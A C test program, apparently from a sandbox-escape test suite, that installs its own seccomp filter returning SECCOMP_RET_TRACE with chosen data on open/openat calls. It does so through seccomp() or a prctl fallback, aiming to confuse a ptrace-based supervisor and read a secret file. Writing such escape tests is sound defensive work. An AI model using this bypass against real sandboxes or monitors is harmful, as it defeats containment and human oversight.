/* e0504-seccomp-ret-trace - a seccomp filter of the program's own that
 * returns SECCOMP_RET_TRACE with data of its choosing.
 *
 * Attack: the program installs (with seccomp(), else with
 * prctl(PR_SET_SECCOMP), which a syscall rule on seccomp does not cover)
 * a filter that answers SECCOMP_RET_TRACE|0x1234 for open/openat with
 * O_NOCTTY.  A supervisor that trusts the data of a seccomp stop, or
 * confuses these extra stops with its own, misjudges calls.  Natively
 * (no tracer) a RET_TRACE call fails with ENOSYS; the plain open after it
 * shows that the filter left the program able to read the secret.
 * Source: janus team (DESIGN.md "bypassing the tracer": a seccomp filter
 * of the program's own).
 * Usage: e0504-seccomp-ret-trace SECRET */
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

#define ARG_LO(n) (offsetof(struct seccomp_data, args) + 8 * (n))

/* The filter's ABI: the program's own (SYS_open and SYS_openat are its
 * table's numbers). */
#if defined(__x86_64__)
#define FILTER_ARCH AUDIT_ARCH_X86_64
#elif defined(__i386__)
#define FILTER_ARCH AUDIT_ARCH_I386
#endif

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0504-seccomp-ret-trace SECRET");
#if defined(FILTER_ARCH)
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, FILTER_ARCH, 0, 8),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_open, 0, 2),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ARG_LO(1)),
		BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, O_NOCTTY, 3, 4),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ARG_LO(2)),
		BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, O_NOCTTY, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE | 0x1234),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { sizeof code / sizeof code[0], code };
	esc_show_result("prctl PR_SET_NO_NEW_PRIVS", prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
	long r = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
	esc_show_result("seccomp(SECCOMP_SET_MODE_FILTER)", r);
	if (r < 0) {
		r = prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog, 0, 0);
		esc_show_result("prctl(PR_SET_SECCOMP)", r);
	}
	esc_show_fd("open SECRET O_NOCTTY (RET_TRACE|0x1234)",
		    open(argv[1], O_RDONLY | O_NOCTTY | O_CLOEXEC));
	esc_show_fd("openat SECRET O_NOCTTY (RET_TRACE|0x1234)",
		    openat(AT_FDCWD, argv[1], O_RDONLY | O_NOCTTY | O_CLOEXEC));
	esc_show_fd("open SECRET (allowed by the own filter)", open(argv[1], O_RDONLY | O_CLOEXEC));
	return 0;
#else
	(void)argv;
	fprintf(stderr, "SKIP: the filter is written for x86_64 and i386\n");
	return ESC_SKIP;
#endif
}
